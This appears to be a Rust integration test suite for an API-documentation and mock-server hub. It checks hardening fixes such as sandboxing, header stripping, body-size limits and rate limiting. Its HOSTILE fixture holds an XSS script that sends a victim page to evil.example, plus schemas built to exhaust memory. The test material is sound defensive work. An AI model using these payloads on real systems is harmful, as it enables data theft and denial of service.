//! The holes of the hardening review, each through the real router on both
//! stores: tenant-written answers cannot reach the hub's cookies, schemas
//! that ask for gigabytes stay bounded, anonymous bodies are not read, and
//! the mock's origin and custom domains keep their places.

use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::task::{Context, Poll};

use axum::body::{Body, Bytes};
use axum::http::{Method, Request, StatusCode};
use hub_core::Plan;
use serde_json::json;
use test_kit::{TestApp, on_both_stores};

/// A description whose answers a tenant chose: an HTML example, a declared
/// `Set-Cookie` header, and schemas that ask for gigabytes.
const HOSTILE: &str = r#"
openapi: 3.0.3
info: {title: Hostile, version: '1'}
paths:
  /page:
    get:
      responses:
        '200':
          description: a page with a script
          headers:
            Set-Cookie: {schema: {type: string}, example: 'docs_member=stolen; Path=/'}
            Access-Control-Allow-Origin: {schema: {type: string}, example: 'https://evil.example'}
          content:
            text/html:
              example: '<script>fetch("/docs/victim").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script>'
  /huge-string:
    get:
      responses:
        '200':
          description: a string of a terabyte
          content:
            application/json:
              schema: {type: string, minLength: 1000000000000}
  /huge-pattern:
    get:
      responses:
        '200':
          description: ten billion characters
          content:
            application/json:
              schema: {type: object, required: [code], properties: {code: {type: string, pattern: '^(x{100000}){100000}$'}}}
  /huge-list:
    get:
      responses:
        '200':
          description: a billion items of 60 KB
          content:
            application/json:
              schema:
                type: array
                minItems: 1000000000
                items: {type: array, minItems: 1000000, items: {type: string, minLength: 60000}}
  /deep:
    get:
      responses:
        '200':
          description: nesting without end
          content:
            application/json:
              schema: {$ref: '#/components/schemas/Node'}
components:
  schemas:
    Node:
      type: object
      required: [child, items]
      properties:
        child: {$ref: '#/components/schemas/Node'}
        items: {type: array, minItems: 64, items: {$ref: '#/components/schemas/Node'}}
"#;

fn text(response: &test_kit::TestResponse) -> String {
    String::from_utf8_lossy(&response.body).into_owned()
}

async fn public_project(app: &TestApp, token: &str, name: &str) -> String {
    let slug = app.project(token, name).await;
    let made_public = app.patch_json(&format!("/api/v1/projects/{slug}"), token, &json!({"is_public": true})).await;
    assert_eq!(made_public.status, StatusCode::OK, "{}", text(&made_public));
    slug
}

async fn hostile_project(app: &TestApp) -> (String, String) {
    let (_, token) = app.user("tenant@example.com", Plan::Pro).await;
    let slug = public_project(app, &token, "Hostile").await;
    let pushed = app.push(&slug, &token, "label=1&makeDefault=true", HOSTILE).await;
    assert_eq!(pushed.status, StatusCode::CREATED, "{}", text(&pushed));
    (slug, token)
}

on_both_stores!(tenant_answers_are_sandboxed_and_cannot_set_cookies);
async fn tenant_answers_are_sandboxed_and_cannot_set_cookies(app: TestApp) {
    let (slug, token) = hostile_project(&app).await;
    let page = app.mock(Method::GET, &format!("/mock/{slug}/page"), &[("accept", "text/html")], None).await;
    assert_eq!(page.status, StatusCode::OK);
    assert!(text(&page).contains("<script>"), "the tenant's bytes are served as written: {}", text(&page));
    assert_eq!(page.headers["content-security-policy"], "sandbox; default-src 'none'");
    assert_eq!(page.headers["x-content-type-options"], "nosniff");
    assert!(page.headers.get("set-cookie").is_none(), "a declared Set-Cookie never leaves");
    assert!(
        page.headers.get("access-control-allow-origin").is_none_or(|v| v == "*"),
        "only the server's own CORS grant: {:?}",
        page.headers.get("access-control-allow-origin")
    );
    // Errors of the mock are tenant content too.
    let missing = app.mock(Method::GET, &format!("/mock/{slug}/nowhere"), &[], None).await;
    assert_eq!(missing.headers["content-security-policy"], "sandbox; default-src 'none'");

    // An override cannot set them either: refused at save, naming the header.
    let overrides = format!("/api/v1/projects/{slug}/mock/overrides");
    for header in [
        "Set-Cookie",
        "Content-Security-Policy",
        "Access-Control-Allow-Credentials",
        "Strict-Transport-Security",
        "Connection",
    ] {
        let refused = app
            .post_json(
                &overrides,
                &token,
                &json!({"matcher": {"path": "/page"}, "response": {"headers": {header: "x"}, "body": "<b>hi</b>"}}),
            )
            .await;
        assert_eq!(refused.status, StatusCode::BAD_REQUEST, "{header}: {}", text(&refused));
        assert_eq!(refused.error_code(), "VALIDATION_ERROR");
        assert!(text(&refused).contains(header), "the refusal names {header}: {}", text(&refused));
    }
    // ...and dropped on import, with a count.
    let bundle = json!({"format": "svc-mock-overrides", "version": 1, "overrides": [
        {"matcher": {"path": "/page"}, "response": {"headers": {"Set-Cookie": "a=1", "X-Kept": "yes", "access-control-allow-origin": "*"}, "body": "imported"}}
    ]});
    let imported = app.post_json(&format!("{overrides}/import"), &token, &bundle).await;
    assert_eq!(imported.status, StatusCode::OK, "{}", text(&imported));
    assert_eq!((imported.json()["imported"].clone(), imported.json()["dropped_headers"].clone()), (json!(1), json!(2)));
    let answered = app.mock(Method::GET, &format!("/mock/{slug}/page"), &[], None).await;
    assert_eq!(text(&answered), "imported");
    assert_eq!(answered.headers["x-kept"], "yes");
    assert!(answered.headers.get("set-cookie").is_none());
    assert_eq!(answered.headers["content-security-policy"], "sandbox; default-src 'none'");
}

on_both_stores!(schemas_asking_for_gigabytes_are_answered_bounded);
async fn schemas_asking_for_gigabytes_are_answered_bounded(app: TestApp) {
    let (slug, _) = hostile_project(&app).await;
    for path in ["/huge-string", "/huge-pattern", "/huge-list"] {
        let answer = app.mock(Method::GET, &format!("/mock/{slug}{path}"), &[], None).await;
        assert_eq!(answer.status, StatusCode::OK, "{path}");
        assert!(text(&answer).len() < 64 * 1024, "{path}: {} bytes", text(&answer).len());
        assert!(text(&answer).contains("larger than the mock generates"), "{path}: {}", text(&answer));
    }
    let deep = app.mock(Method::GET, &format!("/mock/{slug}/deep"), &[], None).await;
    assert_eq!(deep.status, StatusCode::OK);
    assert!(text(&deep).len() <= 2 * 1024 * 1024, "deep: {} bytes", text(&deep).len());
    // The docs render the same operations with bounded examples.
    let overview = app.request(Method::GET, &format!("/docs/{slug}/1"), None, None).await;
    assert_eq!(overview.status, StatusCode::OK);
    assert!(overview.body.len() < 300 * 1024);
}

/// A body that would be 200 MB, counting what the server reads of it.
struct Counted {
    left: usize,
    read: Arc<AtomicUsize>,
}

impl http_body::Body for Counted {
    type Data = Bytes;
    type Error = std::convert::Infallible;

    fn poll_frame(
        mut self: Pin<&mut Self>,
        _cx: &mut Context<'_>,
    ) -> Poll<Option<Result<http_body::Frame<Self::Data>, Self::Error>>> {
        if self.left == 0 {
            return Poll::Ready(None);
        }
        let chunk = self.left.min(64 * 1024);
        self.left -= chunk;
        self.read.fetch_add(chunk, Ordering::Relaxed);
        Poll::Ready(Some(Ok(http_body::Frame::data(Bytes::from(vec![b'{'; chunk])))))
    }
}

const HUGE: usize = 200 * 1024 * 1024;

async fn send_huge(app: &TestApp, method: Method, path: &str, token: Option<&str>) -> (StatusCode, usize, String) {
    let read = Arc::new(AtomicUsize::new(0));
    let mut builder = Request::builder().method(method).uri(path).header("content-type", "application/json");
    if let Some(token) = token {
        builder = builder.header("authorization", format!("Bearer {token}"));
    }
    let body = Body::new(Counted { left: HUGE, read: read.clone() });
    let response = TestApp::send(&app.router, builder.body(body).unwrap()).await;
    (response.status, read.load(Ordering::Relaxed), text(&response))
}

on_both_stores!(large_bodies_are_refused_before_they_are_read);
async fn large_bodies_are_refused_before_they_are_read(app: TestApp) {
    let (_, token) = app.user("owner@example.com", Plan::Business).await;
    let slug = app.project(&token, "Bodies").await;
    app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    let routes = [
        (Method::POST, "/api/v1/projects".to_owned()),
        (Method::PATCH, format!("/api/v1/projects/{slug}")),
        (Method::PATCH, format!("/api/v1/projects/{slug}/versions/1")),
        (Method::POST, format!("/api/v1/projects/{slug}/versions?label=2")),
        (Method::PUT, format!("/api/v1/projects/{slug}/branding")),
        (Method::POST, format!("/api/v1/projects/{slug}/mock/overrides")),
        (Method::POST, format!("/api/v1/projects/{slug}/mock/overrides/import")),
    ];
    // The CI upload route takes its own token: anonymous only.
    let (status, read, _) = send_huge(&app, Method::POST, &format!("/api/projects/{slug}/upload"), None).await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert!(read <= 2 * 1024 * 1024, "the upload route read {read} bytes anonymously");
    for (method, path) in &routes {
        // Without credentials: refused before a byte of the body matters.
        let (status, read, body) = send_huge(&app, method.clone(), path, None).await;
        assert_eq!(status, StatusCode::UNAUTHORIZED, "{method} {path}: {body}");
        assert!(read <= 2 * 1024 * 1024, "{method} {path} read {read} bytes anonymously");
        // With them: refused once past the route's limit, not buffered whole.
        let (status, read, body) = send_huge(&app, method.clone(), path, Some(&token)).await;
        assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{method} {path}: {body}");
        assert!(body.contains("PAYLOAD_TOO_LARGE"), "{method} {path}: the envelope, not a bare text: {body}");
        assert!(read <= 52 * 1024 * 1024, "{method} {path} read {read} bytes");
    }
    // The docs forms read at most their small limit.
    let (status, read, _) = send_huge(&app, Method::POST, "/docs/_signin", None).await;
    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
    assert!(read <= 1024 * 1024, "the sign-in form read {read} bytes");
}

on_both_stores!(the_mock_can_live_on_its_own_origin);
async fn the_mock_can_live_on_its_own_origin(app: TestApp) {
    let (_, token) = app.user("owner@example.com", Plan::Pro).await;
    let slug = public_project(&app, &token, "Split").await;
    app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    let mut web = hub_http::WebConfig::new("https://hub.example.com", &platform::secrets::SecretKey::generate());
    web.mock_public_url = Some("https://mock.example-content.com".to_owned());
    let hub = app.router_with_web(web);
    let request = Request::builder()
        .method(Method::POST)
        .uri(format!("/mock/{slug}/pets?limit=2"))
        .body(Body::from("{}"))
        .unwrap();
    let moved = TestApp::send(&hub, request).await;
    assert_eq!(moved.status, StatusCode::PERMANENT_REDIRECT);
    assert_eq!(moved.headers["location"], format!("https://mock.example-content.com/mock/{slug}/pets?limit=2"));
    // The docs point Try-It at the mock's origin.
    let request = Request::builder().uri(format!("/docs/{slug}/1/op/listPets")).body(Body::empty()).unwrap();
    let page = TestApp::send(&hub, request).await;
    assert!(text(&page).contains(&format!("https://mock.example-content.com/mock/{slug}@1")), "{}", text(&page));
}

on_both_stores!(custom_domains_serve_docs_only);
async fn custom_domains_serve_docs_only(app: TestApp) {
    let (_, token) = app.user("owner@example.com", Plan::Business).await;
    let slug = public_project(&app, &token, "Branded").await;
    app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    let set = app
        .patch_json(&format!("/api/v1/projects/{slug}"), &token, &json!({"custom_domain": "docs.branded.example"}))
        .await;
    assert_eq!(set.status, StatusCode::OK, "{}", text(&set));
    app.hub.verify_custom_domain("docs.branded.example").await.unwrap();
    let on_domain = |path: &str| {
        Request::builder().uri(path.to_owned()).header("host", "docs.branded.example").body(Body::empty()).unwrap()
    };
    let docs = TestApp::send(&app.router, on_domain("/")).await;
    assert_eq!(docs.status, StatusCode::OK);
    assert!(text(&docs).contains("listPets"));
    for path in [format!("/mock/{slug}/pets"), "/api/v1/projects".to_owned(), "/metrics".to_owned()] {
        let refused = TestApp::send(&app.router, on_domain(&path)).await;
        assert_eq!(refused.status, StatusCode::NOT_FOUND, "{path} on a custom domain");
        assert!(text(&refused).contains("docs only"), "{path}: {}", text(&refused));
    }
}

on_both_stores!(forwarded_for_is_believed_only_from_trusted_proxies);
async fn forwarded_for_is_believed_only_from_trusted_proxies(app: TestApp) {
    // The test router has no peer address: every request is the same
    // client, whatever X-Forwarded-For says, so the per-IP limit holds.
    let (_, token) = app.user("owner@example.com", Plan::Pro).await;
    let slug = public_project(&app, &token, "Limited").await;
    app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    let mut last = StatusCode::OK;
    for i in 0..70 {
        let forwarded = format!("198.51.100.{i}");
        let request = Request::builder()
            .uri(format!("/mock/{slug}/pets"))
            .header("x-forwarded-for", &forwarded)
            .body(Body::empty())
            .unwrap();
        // The default router, with the mock's default limits (60 a minute per client).
        let answer = TestApp::send(&app.router, request).await;
        last = answer.status;
        if last == StatusCode::TOO_MANY_REQUESTS {
            assert!(answer.headers.contains_key("retry-after"));
            break;
        }
    }
    assert_eq!(last, StatusCode::TOO_MANY_REQUESTS, "a forged X-Forwarded-For does not reset the per-client limit");
}

on_both_stores!(docs_password_guesses_are_throttled);
async fn docs_password_guesses_are_throttled(app: TestApp) {
    let (_, token) = app.user("owner@example.com", Plan::Pro).await;
    let slug = public_project(&app, &token, "Guarded").await;
    app.push(&slug, &token, "label=1&makeDefault=true", crate::openapi_yaml("1")).await;
    let set = app
        .request(
            Method::PUT,
            &format!("/api/v1/projects/{slug}/docs-password"),
            Some(&token),
            Some(json!({"password": "correct horse"}).to_string().into()),
        )
        .await;
    assert_eq!(set.status, StatusCode::OK, "{}", text(&set));
    let (cookie, csrf) = crate::docs::csrf_for(&app.router, &format!("/docs/{slug}")).await;
    let mut statuses = Vec::new();
    while statuses.last() != Some(&StatusCode::TOO_MANY_REQUESTS) && statuses.len() < 40 {
        let request = Request::builder()
            .method(Method::POST)
            .uri(format!("/docs/{slug}/_login"))
            .header("content-type", "application/x-www-form-urlencoded")
            .header("cookie", &cookie)
            .body(Body::from(format!("password=guess&csrf_token={csrf}")))
            .unwrap();
        let answer = TestApp::send(&app.router, request).await;
        assert!(
            answer.status != StatusCode::UNAUTHORIZED || text(&answer).contains("Wrong password"),
            "{}",
            text(&answer)
        );
        if answer.status == StatusCode::TOO_MANY_REQUESTS {
            assert!(answer.headers["retry-after"].to_str().unwrap().parse::<u64>().unwrap() >= 1);
        }
        statuses.push(answer.status);
    }
    // Ten guesses a minute per project (a slow run may earn one or two more
    // as the minute passes), then 429 with Retry-After.
    let guesses = statuses.iter().filter(|s| **s == StatusCode::UNAUTHORIZED).count();
    assert!((10..=13).contains(&guesses), "{statuses:?}");
    assert_eq!(statuses.last(), Some(&StatusCode::TOO_MANY_REQUESTS));
}
